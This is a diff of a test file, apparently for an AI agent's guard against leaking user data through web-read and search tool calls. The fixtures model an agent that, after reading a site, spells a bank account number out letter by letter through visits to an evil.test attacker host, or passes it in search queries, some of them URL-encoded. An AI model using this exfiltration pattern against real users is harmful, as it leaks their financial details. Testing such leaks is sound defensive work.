@@ -15,13 +15,15 @@ import { webRead } from '../web-read.js';
 type Command = [name: string, args: Record<string, JsonValue>];
 
 const SITE = 'https://news.example/';
-const LETTERS = [...'abcdefghijklmnopqrstuvwxyz0123456789!'];
+const LETTERS = 'abcdefghijklmnopqrstuvwxyz0123456789!'.split('');
 const LISTED = LETTERS.map((letter) => `https://evil.test/${letter}`);
 const end: Command = ['end', {}];
 const visit = (url: string): Command => ['Web.read', { url }];
 const ask = (query: string): Command => ['Engine.search', { query }];
 const spelt = (text: string): Command[] =>
-  [...text.toLowerCase()]
+  text
+    .toLowerCase()
+    .split('')
     .filter((letter) => LETTERS.includes(letter))
     .map((letter) => visit(`https://evil.test/${letter}`));
 
@@ -100,13 +102,13 @@ describe.each<[string, Pick<RoleZeroOptions, 'capabilities'>]>([
   it.each<[what: string, turns: Command[][][], quote: string, Choice]>([
     [
       'in the request',
-      [[[visit(SITE)], [ask('IBAN DE47 1234 now')]]],
+      [[[visit(SITE)], [ask('Account DE47 1234 now')]]],
       'de47 1234',
-      { requests: [`Read ${SITE}. Pay from IBAN-DE47 1234.`] },
+      { requests: [`Read ${SITE}. Pay from Account-DE47 1234.`] },
     ],
     [
       'in an earlier request',
-      [[], [[visit(SITE)], [ask('iban de47-1234-5678')]]],
+      [[], [[visit(SITE)], [ask('account de47-1234-5678')]]],
       'de4712345678',
       { requests: ['My account is DE47 1234 5678.', `Read ${SITE}.`] },
     ],
@@ -124,9 +126,9 @@ describe.each<[string, Pick<RoleZeroOptions, 'capabilities'>]>([
     ],
     [
       'encoded for an address',
-      [[[visit(SITE)], [ask('q=IBAN%2DDE47%201234')]]],
-      'iban-de47 1234',
-      { requests: [`Read ${SITE}. Pay from IBAN-DE47 1234.`] },
+      [[[visit(SITE)], [ask('q=Account%2DDE47%201234')]]],
+      'account-de47 1234',
+      { requests: [`Read ${SITE}. Pay from Account-DE47 1234.`] },
     ],
   ])('%s is not sent to a service without a question that quotes it', async (_what, turns, quote, choice) => {
     const { sent, questions } = await obey(turns, { ...options, ...choice });
@@ -152,8 +154,8 @@ describe.each<[string, Pick<RoleZeroOptions, 'capabilities'>]>([
   });
 
   it('that the user refused to send counts as unknown to the receiver', async () => {
-    const requests = [`Read ${SITE}. Pay from IBAN-DE47 1234.`];
-    const { sent } = await obey([[[visit(SITE)], [ask('IBAN-DE47')], [ask('IBAN-DE47 bank')]]], {
+    const requests = [`Read ${SITE}. Pay from Account-DE47 1234.`];
+    const { sent } = await obey([[[visit(SITE)], [ask('Account-DE47')], [ask('Account-DE47 bank')]]], {
       ...options,
       requests,
     });
@@ -163,14 +165,18 @@ describe.each<[string, Pick<RoleZeroOptions, 'capabilities'>]>([
 
 describe('quotedWords', () => {
   it('finds each quotation of eight characters or more', () => {
-    const word = fc.string({ unit: fc.constantFrom(...'abcdefgh0123456789'), minLength: 8, maxLength: 30 });
+    const word = fc.string({
+      unit: fc.constantFrom(...'abcdefgh0123456789'.split('')),
+      minLength: 8,
+      maxLength: 30,
+    });
     fc.assert(
       fc.property(word, fc.string(), fc.string(), (secret, before, after) => {
         expect(
           quotedWords({ text: `${before} ${secret} ${after}` }, [`It is ${secret}.`], []),
         ).not.toBeNull();
-        expect(quotedWords({ [`${secret}`]: [1] }, [secret], [])).not.toBeNull();
-        expect(quotedWords({ list: [...secret] }, [secret], [])).not.toBeNull();
+        expect(quotedWords({ [secret]: [1] }, [secret], [])).not.toBeNull();
+        expect(quotedWords({ list: secret.split('') }, [secret], [])).not.toBeNull();
       }),
     );
   });
